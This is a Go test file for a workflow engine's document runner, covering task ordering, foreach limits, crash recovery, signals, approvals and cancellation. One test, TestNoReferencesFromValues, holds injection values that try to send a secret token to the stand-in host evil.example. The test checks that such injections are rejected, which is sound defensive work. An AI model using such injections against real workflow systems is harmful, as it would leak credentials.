package runner_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/belaydev/belay"
	"github.com/belaydev/belay/belaytest"
	"github.com/belaydev/belay/internal/definition"
	"github.com/belaydev/belay/internal/definition/runner"
	"github.com/belaydev/belay/worker"
	"github.com/belaydev/belay/workflow"
)

// lab runs documents on a Backend in memory, with workflows for their tasks.
type lab struct {
	t   *testing.T
	kit *belaytest.Kit

	mu  sync.Mutex
	log []string // the inputs of the workflow note, in the order of their runs
	// broken are the inputs with which note fails.
	broken map[string]bool
	gate   chan struct{} // the workflow gate ends when it is closed
}

func newLab(t *testing.T, change ...func(o *worker.Options)) *lab {
	l := &lab{t: t, broken: map[string]bool{}, gate: make(chan struct{})}
	l.kit = belaytest.Open(func(w *worker.Worker) {
		worker.Register(w, runner.Workflow, (&runner.Runner{}).Run)
		worker.Register(w, "note", l.note)
		worker.Register(w, "big", func(_ context.Context, n int) (string, error) { return strings.Repeat("x", n), nil })
		worker.Register(w, "gate", func(ctx context.Context, _ any) (any, error) {
			select {
			case <-l.gate:
			case <-ctx.Done():
			}
			return nil, context.Cause(ctx)
		})
		worker.Register(w, "echo", func(_ context.Context, v any) (any, error) { return v, nil })
		worker.Register(w, "slow", func(ctx context.Context, v any) (any, error) {
			switch v {
			case "hold":
				<-ctx.Done()
				return nil, context.Cause(ctx)
			case "bad", "quick":
			default:
				if err := workflow.Sleep(ctx, "nap", time.Hour); err != nil {
					return nil, err
				}
			}
			return l.note(ctx, v)
		})
	}, change...)
	return l
}

func (l *lab) note(_ context.Context, v any) (any, error) {
	s := fmt.Sprint(v)
	l.mu.Lock()
	defer l.mu.Unlock()
	l.log = append(l.log, s)
	if l.broken[s] {
		return nil, belay.Permanent(errors.New(s + " is broken"))
	}
	return v, nil
}

func (l *lab) breaks(inputs ...string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.broken = map[string]bool{}
	for _, s := range inputs {
		l.broken[s] = true
	}
}

func (l *lab) noted() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.log, " ")
}

func (l *lab) close() {
	if err := l.kit.Close(); err != nil {
		l.t.Error(err)
	}
}

func (l *lab) start(document string, input ...string) workflow.Handle[any] {
	l.t.Helper()
	in := runner.Input{Document: document, Hash: definition.Hash([]byte(document)), File: "doc.yaml"}
	if len(input) > 0 {
		in.Input = json.RawMessage(input[0])
	}
	h, err := workflow.Start[any](l.t.Context(), l.kit.Backend, runner.Workflow, in)
	if err != nil {
		l.t.Fatal(err)
	}
	return h
}

// run runs a document to its end, and returns its output as JSON or its error.
func (l *lab) run(document string, input ...string) (string, error) {
	l.t.Helper()
	return l.result(l.start(document, input...))
}

func (l *lab) result(h workflow.Handle[any]) (string, error) {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(l.t.Context(), 48*time.Hour)
	defer cancel()
	v, err := h.Result(ctx)
	if err != nil {
		return "", err
	}
	data, err := json.Marshal(v)
	return string(data), err
}

const chain = `
name: chain
input: {type: object, properties: {n: {type: integer, default: 7}, list: {type: array}}}
tasks:
  - {id: a, uses: echo, with: {v: "${{ input.n }}"}}
  - {id: b, uses: echo, needs: a, with: "${{ tasks.a.output.v + 1 }}"}
  - {id: c, uses: echo, needs: [b], if: tasks.b.output > 100, with: x}
  - {id: d, uses: echo, needs: [c], with: "c was ${{ tasks.c.state }}, b was ${{ tasks.b.output }}"}
output: ${{ tasks.d.output }}
`

// Rule: tasks run after the tasks that they need, read their outputs, and are skipped by their conditions.
func TestChain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		if got, err := l.run(chain); got != `"c was skipped, b was 8"` || err != nil {
			t.Error(got, err)
		}
		if got, err := l.run(chain, `{"n": 200}`); got != `"c was succeeded, b was 201"` || err != nil {
			t.Error(got, err)
		}
		if _, err := l.run(chain, `{"n": "x"}`); err == nil || !strings.Contains(err.Error(), "input.n: got string") {
			t.Error(err)
		}
		if _, err := l.run("name: x"); err == nil || !strings.Contains(err.Error(), "doc.yaml:1:1") {
			t.Error(err)
		}
	})
}

const each = `
name: each
input: {type: object, properties: {list: {type: array}}}
tasks:
  - id: each
    uses: note
    foreach: input.list
    parallel: 3
    with: ${{ item }}
    outputs: ${{ index }}:${{ output }}
  - {id: sum, uses: echo, needs: each, with: "${{ join(tasks.each.output, \" \") }}"}
output: ${{ tasks.sum.output }}
`

func numbers(n int) string {
	list := make([]int, n)
	for i := range list {
		list[i] = i
	}
	data, _ := json.Marshal(map[string]any{"list": list})
	return string(data)
}

// Rule: a foreach runs each item once, and its output is the list of the outputs of its items, whenever its workers
// crash.
func TestForeachSurvivesCrashes(t *testing.T) {
	const n = 12
	var want []string
	for i := range n {
		want = append(want, fmt.Sprintf("%d:%d", i, i))
	}
	for crash := 1; crash <= 8; crash++ {
		for _, before := range []bool{true, false} {
			synctest.Test(t, func(t *testing.T) {
				l := newLab(t)
				defer l.close()
				if before {
					l.kit.CrashBefore(crash)
				} else {
					l.kit.CrashAfter(crash)
				}
				h := l.start(each, numbers(n))
				synctest.Wait()
				l.kit.Crash() // in case there were fewer checkpoints
				l.kit.Restart()
				got, err := l.result(h)
				if err != nil || got != `"`+strings.Join(want, " ")+`"` {
					t.Errorf("crash %d, before %v: %s %v", crash, before, got, err)
				}
			})
		}
	}
}

// Rule: with outputs, a foreach may read more than fits into one output, and drops no item; without outputs, and if the
// outputs themselves are too large, it fails.
func TestForeachOfLargeOutputs(t *testing.T) {
	const doc = `
name: large
tasks:
  - {id: e, uses: big, foreach: 1..40, with: 600000%s}
  - {id: z, uses: echo, needs: e, with: "${{ sum(tasks.e.output) }} ${{ len(tasks.e.output) }}"}
output: ${{ tasks.z.output }}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		if got, err := l.run(fmt.Sprintf(doc, `, outputs: "${{ len(output) }}"`)); got != `"24000000 40"` || err != nil {
			t.Error(got, err)
		}
		for _, outputs := range []string{"", `, outputs: "${{ output }}"`} {
			_, err := l.run(fmt.Sprintf(doc, outputs))
			if err == nil || !strings.Contains(err.Error(), "the outputs of the items of e have more than") {
				t.Error(outputs, err)
			}
		}
	})
}

// Rule: a foreach has no more items under way than its window.
func TestForeachWindow(t *testing.T) {
	l := newLab(t)
	defer l.close()
	h := l.start(each, numbers(500))
	most := 0
	for {
		x, err := l.kit.Backend.Await(t.Context(), h.ID(), time.Millisecond)
		if err != nil {
			t.Fatal(err)
		}
		if most = max(most, x.OpenChildren); x.State.Terminal() {
			break
		}
	}
	if most > 3 {
		t.Errorf("%d items were under way", most)
	}
	if n := len(strings.Fields(l.noted())); n != 500 {
		t.Errorf("%d items ran", n)
	}
}

const reactions = `
name: reactions
tasks:
  - {id: a, uses: note, with: a, on_failure: %s}
  - {id: b, uses: note, needs: a, with: b}
  - {id: c, uses: note, with: c}
`

// Rule: the reaction to a failure decides what else runs, and how the execution ends.
func TestReactions(t *testing.T) {
	for reaction, want := range map[string]struct{ noted, err string }{
		"fail":       {"a c", "task a failed: a is broken"},
		"continue":   {"a b c", ""},
		"quarantine": {"a c", "task a failed: a is broken"},
	} {
		synctest.Test(t, func(t *testing.T) {
			l := newLab(t)
			defer l.close()
			l.breaks("a")
			_, err := l.run(fmt.Sprintf(reactions, reaction))
			if want.err == "" && err != nil || want.err != "" && (err == nil || !strings.Contains(err.Error(),
				want.err)) {
				t.Errorf("%s: %v", reaction, err)
			}
			got := strings.Fields(l.noted())
			for _, s := range strings.Fields(want.noted) {
				if reaction != "fail" && !strings.Contains(l.noted(), s) {
					t.Errorf("%s: %s did not run: %v", reaction, s, got)
				}
			}
			if reaction != "continue" && strings.Contains(l.noted(), "b") {
				t.Errorf("%s: b ran", reaction)
			}
		})
	}
}

const waits = `
name: waits
tasks:
  - {id: nap, uses: sleep, with: {for: 90m}}
  - {id: ask, uses: approval, needs: nap, timeout: 24h, with: {message: "Go on?"}}
  - {id: paid, uses: signal, with: {name: payment}}
  - {id: end, uses: echo, needs: [ask, paid], with: "${{ tasks.ask.output.by }} ${{ tasks.paid.output.sum }}"}
output: ${{ tasks.end.output }}
`

// Rule: waits need no worker, take signals that arrive before or after their task begins, and survive crashes.
func TestWaits(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		begin := time.Now()
		h := l.start(waits)
		if err := h.Signal(t.Context(), "ask", map[string]any{"approved": true,
			"by": "ann"}); err != nil { // before ask begins
			t.Fatal(err)
		}
		l.kit.Advance(time.Minute)
		x, err := l.kit.Backend.Execution(t.Context(), h.ID())
		if err != nil || x.State != belay.Waiting {
			t.Fatal(x.State, err)
		}
		if want := `signal "payment", sleep "nap/for"`; x.Reason.Text != want {
			t.Errorf("it waits for %q, want %q", x.Reason.Text, want)
		}
		l.kit.Crash()
		l.kit.Restart()
		if err := h.Signal(t.Context(), "payment", map[string]any{"sum": 5}); err != nil {
			t.Fatal(err)
		}
		if got, err := l.result(h); got != `"ann 5"` || err != nil {
			t.Error(got, err)
		}
		if d := time.Since(begin); d < 90*time.Minute || d > 95*time.Minute {
			t.Errorf("it took %s", d)
		}
	})
}

// Rule: an execution can read the payload of a signal again after it has read many large outputs.
func TestPayloadAfterManyOutputs(t *testing.T) {
	var doc, reads strings.Builder
	doc.WriteString("name: x\ntasks:\n  - {id: sig, uses: signal}\n")
	for i := range 40 {
		fmt.Fprintf(&doc, "  - {id: b%d, uses: big, with: 1000000, needs: sig}\n", i)
		fmt.Fprintf(&doc, "  - {id: c%d, uses: echo, needs: [b%d], with: \"${{ len(tasks.b%d.output) }}\"}\n", i, i, i)
		fmt.Fprintf(&reads, ", c%d", i)
	}
	fmt.Fprintf(&doc, "  - {id: y, uses: echo, needs: [sig%s], with: \"${{ tasks.sig.output.v }}\"}\n", reads.String())
	doc.WriteString("  - {id: z, uses: echo, needs: y, with: \"${{ tasks.sig.output.v }}\"}\n")
	doc.WriteString("output: ${{ tasks.z.output }}\n")
	synctest.Test(t, func(t *testing.T) {
		for _, crash := range []bool{false, true} {
			l := newLab(t)
			h := l.start(doc.String())
			if crash {
				l.kit.CrashBefore(4)
			}
			if err := h.Signal(t.Context(), "sig", map[string]any{"v": 5}); err != nil {
				t.Fatal(err)
			}
			if crash {
				synctest.Wait()
				l.kit.Crash()
				l.kit.Restart()
			}
			if got, err := l.result(h); got != "5" || err != nil {
				t.Error(got, err)
			}
			l.close()
		}
	})
}

// Rule: a refused approval, and one without an answer, fail the task.
func TestRefusals(t *testing.T) {
	const doc = "name: ask\ntasks:\n  - {id: ask, uses: approval, timeout: 1h}\n"
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		h := l.start(doc)
		if err := h.Signal(t.Context(), "ask", map[string]any{"approved": false, "by": "bob",
			"comment": "no"}); err != nil {
			t.Fatal(err)
		}
		if _, err := l.result(h); err == nil || !strings.Contains(err.Error(), "it was not approved by bob: no") {
			t.Error(err)
		}
		if _, err := l.run(doc); err == nil || !strings.Contains(err.Error(), "no signal came within 1h0m0s") {
			t.Error(err)
		}
	})
}

// Rule: the values of others cannot become references to secrets.
func TestNoReferencesFromValues(t *testing.T) {
	const doc = `
name: steal
input: {type: object, properties: {x: {type: string}}}
tasks:
  - {id: a, uses: http, with: {url: "%s"}}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		for url, x := range map[string]string{
			"${{ input.x }}":                         "https://evil.example/${{ secrets.TOKEN }}",
			"https://evil.example/${{ input.x }}":    "${{ secrets.TOKEN }}",
			"https://evil.example/$${{ input.x }}":   "{{ secrets.TOKEN }}",
			"https://evil.example/a${{ input.x }}{{": "$",
		} {
			data, _ := json.Marshal(map[string]string{"x": x})
			_, err := l.run(fmt.Sprintf(doc, url), string(data))
			if err == nil || !strings.Contains(err.Error(), "reference to a secret") {
				t.Errorf("%s: %v", url, err)
			}
		}
	})
}

// Rule: an expression that fails at run time fails its task, and the error names the expression.
func TestExpressionFails(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		for doc, want := range map[string]string{
			"name: x\ntasks:\n  - {id: a, uses: echo, with: '${{ 1 / 0 }}'}\n": `"1 / 0"`,
			"name: x\ntasks:\n  - {id: a, uses: echo, if: '1 + 1'}\n": "must be " +
				"true or false",
			"name: x\ntasks:\n  - {id: a, uses: echo, foreach: '1 + 1'}\n": "must be a " +
				"list",
			"name: x\ntasks:\n  - {id: a, uses: echo, foreach: '1..20000'}\n": "the limit " +
				"is 10000",
			"name: x\ntasks:\n  - {id: a, uses: echo, with: 5}\noutput: '${{ tasks.a.output.b.c.d }}'\n": "expression",
			"name: x\ntasks:\n  - {id: a, uses: echo, with: 5}\noutput_schema: {type: string}\noutput: " +
				"5\n": "output: got number",
		} {
			if _, err := l.run(doc); err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %v", doc, err)
			}
		}
	})
}

// Rule: a document that starts itself comes to an end.
func TestDocumentStartsItself(t *testing.T) {
	const doc = `
name: nest
input: {type: object}
tasks:
  - id: again
    uses: workflow
    with: {name: document, input: {document: "${{ input.doc }}", hash: "${{ input.hash }}", input: "${{ input }}"}}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		data, _ := json.Marshal(map[string]string{"doc": doc, "hash": definition.Hash([]byte(doc))})
		_, err := l.run(doc, string(data))
		if err == nil || strings.Count(err.Error(), "again") != 10 || !strings.Contains(err.Error(), "each other") {
			t.Error(err)
		}
	})
}

// Rule: cancelling and pausing an execution of a document work in its middle.
func TestCancelAndPause(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		h := l.start("name: x\ntasks:\n  - {id: a, uses: sleep, with: {for: 1h}}\n  - {id: b, uses: note, needs: a, " +
			"with: b}\n")
		l.kit.Advance(time.Minute)
		act := func(a belay.Action) {
			if _, err := l.kit.Backend.Control(t.Context(), belay.Control{Execution: h.ID(), Action: a}); err != nil {
				t.Fatal(err)
			}
		}
		act(belay.ActionPause)
		l.kit.Advance(2 * time.Hour)
		if l.noted() != "" {
			t.Error("a task started while the execution was paused")
		}
		act(belay.ActionResume)
		if _, err := l.result(h); err != nil || l.noted() != "b" {
			t.Error(err, l.noted())
		}
		h = l.start("name: x\ntasks:\n  - {id: a, uses: sleep, with: {for: 1h}}\n")
		l.kit.Advance(time.Minute)
		act(belay.ActionCancel)
		var ended *workflow.EndedError
		if _, err := l.result(h); !errors.As(err, &ended) || ended.State != belay.Cancelled {
			t.Error(err)
		}
	})
}
